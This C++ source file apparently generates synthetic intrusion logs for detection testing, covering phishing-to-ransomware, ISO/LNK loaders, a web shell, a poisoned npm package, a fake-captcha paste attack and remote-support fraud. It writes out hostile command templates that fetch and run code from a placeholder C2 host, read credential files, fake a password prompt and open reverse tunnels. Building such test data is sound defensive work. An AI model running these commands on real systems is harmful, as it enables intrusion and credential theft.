// SPDX-License-Identifier: Apache-2.0
//
// Ways in, and what follows: mail, downloads, a web server, a package, a telephone call.
#include "stages/produce/synthetic/attack/moves.h"
#include "stages/produce/synthetic/log/sysmon.h"

namespace tocsin::synthetic {
namespace {

const Account& some_admin(Attack& a) {
  auto& admins = a.world.estate.admins;
  return admins[a.world.rng.below(admins.size())];
}

void phish_to_ransom(Attack& a) {
  Person& person = a.victim(kOffice);
  const Process outlook = a.open(person, "outlook");
  a.let("lure", "{lure}");
  a.step("initial-access", "T1566.001");
  a.does(
      outlook,
      {R"(file {home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{h8}\{lure}.docm)",
       R"(stream {home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{h8}\{lure}.docm)"});
  a.pause(5, 40);
  const Process word = a.run(
      outlook, "winword",
      {R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{h8}\{lure}.docm" /o "")"},
      {R"(load C:\Program Files\Microsoft Office\root\VFS\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL)"});
  a.step("execution", "T1204.002");
  const Process shell =
      a.chance(35)
          ? a.run(word, "wscript", {R"(wscript.exe //B "{home}\AppData\Local\Temp\{h6}.js")"},
                  {R"(load C:\Windows\System32\jscript.dll)"})
          : a.run(word, "cmd",
                  {R"(cmd.exe /c powershell -w hidden {h4})",
                   R"("C:\Windows\System32\cmd.exe" /c start /min cmd /c {h6}.bat)"});
  const Process stager = moves::stage(a, shell);
  const Process implant = moves::implant(a, stager);
  moves::beacon(a, implant, 3);
  moves::persist(a, stager);
  moves::discover(a, stager);
  moves::dump_lsass(a, implant);
  const Process remote = moves::spread(a, stager, some_admin(a), a.server(kFileServer));
  moves::impair_defender(a, remote);
  moves::collect(a, remote);
  moves::exfiltrate(a, remote);
  moves::destroy_recovery(a, remote);
  moves::encrypt(a, remote, 12);
  moves::clear_logs(a, remote);
}

void iso_lnk(Attack& a) {
  Person& person = a.victim();
  const Process browser = a.open(person, "chrome");
  a.let("lure", "{lure}");
  a.step("initial-access", "T1566.002");
  a.does(browser, {"dns {@c2}", R"(file {home}\Downloads\{lure}.iso)",
                   R"(stream {home}\Downloads\{lure}.iso)"});
  a.pause(10, 60);
  const Process explorer = a.open(person, "explorer");
  a.step("execution", "T1204.002");
  const Process cmd = a.run(
      explorer, "cmd",
      {R"("C:\Windows\System32\cmd.exe" /c start E:\{h6}\{lure}.bat & exit)",
       R"("C:\Windows\System32\cmd.exe" /c copy E:\{h4}.dat %TEMP%\{h6}.dll && rundll32 %TEMP%\{h6}.dll,DllRegisterServer)"});
  a.step("stealth", "T1218.011");
  const Process rundll = a.run(cmd, "rundll32",
                               {R"(rundll32.exe E:\{h6}\{h4}.dat,DllRegisterServer)",
                                R"(rundll32 {home}\AppData\Local\Temp\{h6}.dll,#1)",
                                R"(rundll32.exe {home}\AppData\Roaming\{h8}\{h4}.dll,Start {h4})"},
                               {R"(loadu {home}\AppData\Local\Temp\{h6}.dll)"});
  moves::beacon(a, rundll, 4);
  moves::inject(a, rundll);
  moves::discover(a, rundll);
  a.step("credential-access", "T1555.003");
  a.run(
      rundll, "esentutl",
      {R"(esentutl.exe /y "{home}\AppData\Local\Google\Chrome\User Data\Default\Login Data" /d "{home}\AppData\Local\Temp\{h6}.tmp")",
       R"(esentutl /r V01 /l"{home}\AppData\Local\Microsoft\Windows\WebCache" /s"{home}\AppData\Local\Microsoft\Windows\WebCache")"},
      {R"(file {home}\AppData\Local\Temp\{h6}.tmp)"});
  moves::persist(a, rundll);
  moves::exfiltrate(a, rundll);
}

void web_shell(Attack& a) {
  Host& web = a.server(kWebServer);
  const Process w3wp = a.at_host(web, web.find("w3wp") != nullptr ? "w3wp" : "services");
  a.scene.account = &a.world.estate.network_service;
  a.let("shell", "{webshellname}");
  a.step("initial-access", "T1190");
  a.run(w3wp, "cmd",
        {R"("C:\Windows\system32\cmd.exe" /c whoami > C:\inetpub\wwwroot\portal\{h6}.txt)",
         R"("cmd.exe" /c echo {h32} > C:\inetpub\wwwroot\portal\uploads\{h4}.txt)"});
  a.pause(20, 90);
  a.step("persistence", "T1505.003");
  a.does(w3wp, {R"(file C:\inetpub\wwwroot\portal\{shell})"});
  a.pause(30, 120);
  for (int i = 0; i < 4; ++i) {
    a.step("execution", "T1059.003");
    const Process cmd =
        a.run(w3wp, "cmd",
              {R"("cmd" /c cd /d "C:\inetpub\wwwroot\portal"&whoami&echo [S]&cd&echo [E])",
               R"(c:\windows\system32\cmd.exe /c net user)",
               R"("cmd.exe" /c ipconfig /all & tasklist)", R"(cmd /c dir D:\Shares /s /b)"});
    a.step("discovery", "T1033");
    a.run(cmd, i % 2 == 0 ? "whoami" : "net",
          {i % 2 == 0 ? "whoami /all" : "net localgroup administrators"});
    a.pause(10, 70);
  }
  a.step("command-and-control", "T1105");
  const Process get =
      a.run(w3wp, "certutil",
            {R"(certutil -urlcache -split -f http://{@c2}/{h4}.exe C:\Windows\Temp\{h6}.exe)",
             R"(certutil.exe -verifyctl -f -split http://{@c2}/{h6}.txt)"},
            {"dns {@c2}", "net {@c2}:80", R"(file C:\Windows\Temp\{h6}.exe)"});
  a.pause(10, 60);
  a.step("privilege-escalation", "T1134.002");
  const Process potato = a.run_tool(w3wp, R"(C:\Windows\Temp\{potato}.exe)", "-",
                                    {R"({potato}.exe -t * -p cmd.exe -l {n4})",
                                     R"(C:\Windows\Temp\{potato}.exe -cmd "cmd /c whoami")",
                                     R"(C:\Windows\Temp\{h5}.exe -i -c cmd)"},
                                    {R"(pipe \{h8}\pipe\epmapper)", R"(pipe \{h8}\pipe\spoolss)"});
  const Process root =
      a.run_as(potato, a.system(), "System", "cmd",
               {"cmd.exe", R"(C:\Windows\system32\cmd.exe /c powershell -ep bypass)"});
  moves::dump_lsass(a, root);
  a.step("command-and-control", "T1572");
  a.run_tool(root, R"(C:\Windows\Temp\{plinkname}.exe)", a.chance(60) ? "Plink" : "-",
             {R"({plinkname}.exe -ssh -batch -R {n4}:127.0.0.1:3389 {h4}@{@c2} -pw {h8})",
              R"({plinkname}.exe -N -R 0.0.0.0:{n4}:127.0.0.1:3389 -P 443 {@c2})"},
             {"net {@c2}:443"});
  moves::clear_logs(a, root);
  (void)get;
}

void supply_chain(Attack& a) {
  Person& person = a.victim(kDeveloper);
  const Process shell = a.open(person, "codecmd");
  a.let("pkg", "{evilpkg}");
  a.step("initial-access", "T1195.001");
  const Process npm = a.run(
      shell, "node",
      {R"("C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install {pkg}@{n}.{n}.{n})"},
      {"web npm.meridian.example", R"(file {repodir}\node_modules\{pkg}\preinstall.js)"});
  a.step("execution", "T1059.007");
  const Process cmd = a.run(
      npm, "cmd",
      {R"(C:\Windows\system32\cmd.exe /d /s /c node preinstall.js)",
       R"~(C:\Windows\system32\cmd.exe /d /s /c node -e "eval(Buffer.from('{h32}{h32}','hex').toString())")~"});
  const Process node =
      a.run(cmd, "node",
            {R"(node preinstall.js)",
             R"~(node  -e "require('child_process').exec(Buffer.from('{h32}','hex')+'')")~"},
            {"dns {@c2}", "net {@c2}:443"});
  a.step("credential-access", "T1552.001");
  a.run(node, "findstr",
        {R"(findstr /si /m "password token secret" {home}\*.env {home}\*.config {home}\.npmrc)",
         R"(findstr /S /I cpassword \\{dns}\sysvol\{dns}\policies\*.xml)"});
  a.run(node, "cmd",
        {R"(cmd.exe /c type {home}\.aws\credentials {home}\.npmrc {home}\.ssh\id_rsa)",
         R"(cmd.exe /c xcopy {home}\.ssh {home}\AppData\Local\Temp\{h6} /s /q)"});
  a.pause(10, 60);
  const Process stager = moves::stage(a, node);
  moves::persist(a, stager);
  moves::exfiltrate(a, stager);
}

void click_fix(Attack& a) {
  Person& person = a.victim(kOffice | kAnalyst);
  const Process explorer = a.open(person, "explorer");
  a.step("initial-access", "T1566.002");
  a.does(a.open(person, "edge"), {"dns {@c2}", "net {@c2}:443"});
  a.pause(10, 40);
  a.step("execution", "T1204.004");
  a.does(
      explorer,
      {R"(set HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a = powershell -w h -c "iwr {@c2}/{h4}|iex" # I am not a robot: {n5}\1)"});
  const Process shell =
      a.chance(50)
          ? a.run(
                explorer, "powershell",
                {R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -w h -c "iwr https://{@c2}/{h4}|iex" # I am not a robot: {n5})",
                 R"("powershell.exe" -W Hidden -command $u='{@c2}/{h6}';$r=iwr $u -useb;iex $r.Content)"},
                {"script iwr https://{@c2}/{h4}|iex", "dns {@c2}", "net {@c2}:443"})
          : a.run(explorer, "mshta",
                  {R"("C:\Windows\system32\mshta.exe" https://{@c2}/verify.{h4} # reCAPTCHA {n4})",
                   R"("mshta" http://{@c2}/{h6}.hta)"},
                  {"dns {@c2}", "net {@c2}:443",
                   R"(file {home}\AppData\Local\Microsoft\Windows\INetCache\IE\{h8}\{h6}.hta)"});
  const Process implant = moves::implant(a, shell);
  a.step("credential-access", "T1555.003");
  a.does(implant, {R"(file {home}\AppData\Local\Temp\{h8}\Login Data)",
                   R"(file {home}\AppData\Local\Temp\{h8}\Cookies)"});
  a.step("collection", "T1113");
  a.does(implant, {R"(file {home}\AppData\Local\Temp\{h8}\screen.png)"});
  moves::beacon(a, implant, 3);
  moves::exfiltrate(a, shell);
}

void remote_support(Attack& a) {
  Person& person = a.victim(kOffice);
  const Process browser = a.open(person, "edge");
  a.let("rmm", "{rmmname}");
  a.step("initial-access", "T1566.004");
  a.does(browser, {R"(file {home}\Downloads\{rmm}.exe)", R"(stream {home}\Downloads\{rmm}.exe)"});
  a.pause(20, 90);
  a.step("command-and-control", "T1219");
  const Process tool = a.run_tool(
      a.open(person, "explorer"), R"({home}\Downloads\{rmm}.exe)",
      a.chance(60) ? "AnyDesk.exe" : "-",
      {R"("{home}\Downloads\{rmm}.exe" --install "C:\ProgramData\{rmm}" --start-with-win --silent)",
       R"("{home}\Downloads\{rmm}.exe" )"},
      {"dns relay-{h4}.net.anydesk.com", "net relay-{h4}.net.anydesk.com:443",
       R"(file C:\ProgramData\{rmm}\system.conf)"});
  a.run(tool, "cmd",
        {R"(cmd.exe /c echo {password} | "{home}\Downloads\{rmm}.exe" --set-password)",
         R"(cmd.exe /c "{home}\Downloads\{rmm}.exe" --get-id)"});
  const Process shell = a.run(tool, "cmd", {R"("C:\Windows\system32\cmd.exe" )"});
  moves::discover(a, shell);
  a.step("credential-access", "T1056.002");
  a.run(
      shell, "powershell",
      {R"(powershell -c "$c=$host.ui.PromptForCredential('Windows Security','Session expired','{user}','');$c.GetNetworkCredential().Password")"},
      {"script $host.ui.PromptForCredential('Windows Security','Session expired','','')"});
  moves::collect(a, shell);
  moves::exfiltrate(a, shell);
}

constexpr Scenario kScenarios[] = {
    {"phish-to-ransom", "A macro mail ends in encrypted file shares", phish_to_ransom},
    {"iso-lnk", "A disk image with a shortcut loads a DLL that steals browser passwords", iso_lnk},
    {"web-shell", "An upload on the portal becomes SYSTEM on the web server", web_shell},
    {"supply-chain-npm", "A poisoned package takes a developer's keys", supply_chain},
    {"click-fix", "A fake captcha makes the user paste the attack", click_fix},
    {"remote-support", "A caller talks the user into remote-control software", remote_support},
};

}  // namespace

std::span<const Scenario> intrusion_scenarios() { return kScenarios; }

}  // namespace tocsin::synthetic
